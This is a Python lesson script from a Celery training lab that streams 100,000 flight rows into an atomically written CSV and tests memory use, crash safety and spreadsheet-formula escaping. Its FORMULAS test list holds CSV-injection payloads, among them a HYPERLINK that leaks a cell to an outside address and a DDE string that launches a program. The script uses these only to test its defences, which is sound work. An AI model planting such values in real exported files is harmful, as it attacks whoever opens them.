"""Export data: stream rows into a CSV file that is whole or absent, and harmless when opened.

Three things go wrong with downloads.  Somebody reads all rows into a list first, and with ten times
the rows the worker runs out of memory.  The worker dies in the middle, and half a file lies there
that looks like a whole one.  And a text that a customer typed, such as =HYPERLINK(...), becomes a
formula in the spreadsheet of whoever opens the file.

`export_data` reads 500 rows at a time.  It writes into a temporary file beside the target, which
takes the target's name in one step when it is complete.  And it puts an apostrophe in front of each
cell that a spreadsheet would run.

The lesson puts 110,000 flights into the database.  Four of them have a remark that is a formula.
Then it exports 10,000 flights, and 100,000.  At last it kills the process in the middle of an
export, and looks what lies there.

The task is in tasks/realworld_tasks/exports.py.

    ./lab run 53        # about 10 s

Watch: http://localhost:5555/tasks shows four exports; one of them was lost with its process.

You should see:

    $ ./start_worker.sh -n lesson53@%h --queues=lesson53 --concurrency=1
    exports/lesson53-few.csv: 10000 rows, 0.4 MB; the process held ... MB at most
    exports/lesson53-many.csv: 100000 rows, 4.4 MB; the process held ... MB at most
    a remark in the database                         the same in the file
    =HYPERLINK("http://example.com/?"&A1,"details")  '=HYPERLINK("http://example.com/?"&A1,"details")
    +1+cmd|' /C calc'!A0                             '+1+cmd|' /C calc'!A0
    -2+3+SUM(A1:A9)                                  '-2+3+SUM(A1:A9)
    @SUM(1,1)                                        '@SUM(1,1)
    killed in the middle: FAILURE  WorkerLostError
    lesson53-many.csv: not there; beside it, a part of it under another name
    once more: 100000 rows
    true: 10 times the rows took at most 5 MB more
    true: each flight is in its file once, and no cell begins with =, +, - or @
    true: after the kill there was no file of that name, and not half of one
    true: the next export wrote the same file as the first one, byte by byte

Try next.  Guess first:
  1. In tasks/realworld_tasks/exports.py, put list(...) around flight_table.stream(...).  Which
     sentence does not come true any more?
  2. In work/flights/exports.py, let `harmless` return the cell as it is.  And which one now?
  3. Set the 100_000 in ROWS to 300_000 (about 25 s).  How much more memory does that take?
"""

import csv
from itertools import islice
from pathlib import Path

import psutil
from celery.result import AsyncResult
from sqlalchemy import Engine

from lab_home import LAB_FILES
from labkit.errors import LabError
from labkit.lesson import claim, run_lesson
from labkit.own.flights import own_flights
from labkit.own.queues import own_queues
from labkit.own.workers import own_worker
from labkit.processes.usage import peak_mb
from labkit.waiting import wait_until
from tasks.realworld_tasks import export_data
from work.files import WRITING
from work.flights import flight_table
from work.flights.sample_flights import flight_dicts

NAME = "lesson53"  # of the worker and its queue
ROWS = {"lesson53-few": 10_000, "lesson53-many": 100_000}  # of each source
AIRLINES = {"lesson53-few": "XB", "lesson53-many": "XC"}
MANY = "lesson53-many"
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"details")',  # sends a cell to whoever owns the address
    "+1+cmd|' /C calc'!A0",  # starts a program, in old spreadsheets
    "-2+3+SUM(A1:A9)",
    "@SUM(1,1)",
]
BEGINS = ("=", "+", "-", "@")
MORE_MB = 5  # 10 times the rows as a list took 77 MB more
BEGUN_BYTES = 100_000  # of 4,400,000: then the export is in the middle
ATTEMPTS = 5  # an export may be over before the lesson has seen it begin
ROWS_AT_ONCE = 5000  # in one transaction
TIMEOUT_S = 120  # an export takes 2 s, and a death is noticed within 5 s; the rest is room


def main() -> None:
    few, many = (LAB_FILES / "exports" / f"{source}.csv" for source in ROWS)
    with (
        own_flights(*ROWS) as database,
        own_queues(NAME),
        own_worker(NAME, [NAME], "--concurrency=1") as worker,
    ):
        for source in ROWS:
            fill(database, source)
        (process,) = psutil.Process(worker.process.pid).children()
        held_mb = []
        for source in ROWS:
            done = export(source).get(timeout=TIMEOUT_S)
            held_mb.append(peak_mb(process.pid))
            print(
                f"{done['file']}: {done['rows']} rows, {done['size_bytes'] / 1e6:.1f} MB; "
                f"the process held {held_mb[-1]:.0f} MB at most"
            )
        tables = [read(few), read(many)]
        print(f"{'a remark in the database':<49}the same in the file")
        for formula, row in zip(FORMULAS, tables[0], strict=False):
            print(f"{formula:<49}{row['remark']}")
        whole = many.read_bytes()

        killed, half = export_and_kill(many, process)
        gone = not many.exists()
        print(f"killed in the middle: {killed.state}  {type(killed.result).__name__}")
        there = "not there" if gone else "there"
        print(f"{many.name}: {there}; beside it, a part of it under another name")
        again = export(MANY).get(timeout=TIMEOUT_S)
        print(f"once more: {again['rows']} rows")
    half.unlink()  # lesson 55 has a task that removes what was left like this
    times = ROWS[MANY] // min(ROWS.values())
    claim(
        held_mb[1] - held_mb[0] <= MORE_MB,
        f"{times} times the rows took at most {MORE_MB} MB more",
    )
    flights = [{(row["flight"], row["day"]) for row in table} for table in tables]
    claim(
        [len(found) for found in flights] == list(ROWS.values())
        and not any(
            cell.startswith(BEGINS) for table in tables for row in table for cell in row.values()
        ),
        "each flight is in its file once, and no cell begins with =, +, - or @",
    )
    claim(gone, "after the kill there was no file of that name, and not half of one")
    claim(
        many.read_bytes() == whole,
        "the next export wrote the same file as the first one, byte by byte",
    )


def fill(database: Engine, source: str) -> None:
    """Put flights into the database; the first ones have the formulas as their remarks."""
    flights = flight_dicts(ROWS[source], AIRLINES[source], FORMULAS)
    while batch := list(islice(flights, ROWS_AT_ONCE)):
        flight_table.put(database, batch, source)


def export(source: str) -> AsyncResult:
    return export_data.apply_async((source,), queue=NAME)


def export_and_kill(file: Path, process: psutil.Process) -> tuple[AsyncResult, Path]:
    """Kill the process while it writes the file; return the result, and what was written."""
    before = set(file.parent.glob(f"{WRITING}*"))

    def begun() -> list[Path]:
        new = set(file.parent.glob(f"{WRITING}*")) - before
        return [path for path in new if path.stat().st_size >= BEGUN_BYTES]

    for _ in range(ATTEMPTS):
        file.unlink()
        result = export(file.stem)
        wait_until(lambda result=result: bool(begun()) or result.ready(), TIMEOUT_S)
        process.suspend()  # frozen, it cannot come to its end before we have looked
        if half := begun():
            process.kill()
            result.get(timeout=TIMEOUT_S, propagate=False)
            return result, half[0]
        process.resume()
        result.get(timeout=TIMEOUT_S)
    raise LabError("every export was over before it could be killed", "./lab run 53")


def read(file: Path) -> list[dict[str, str]]:
    """The rows of a CSV file, each with the names of its columns."""
    with file.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


if __name__ == "__main__":
    run_lesson(main, queues=[])
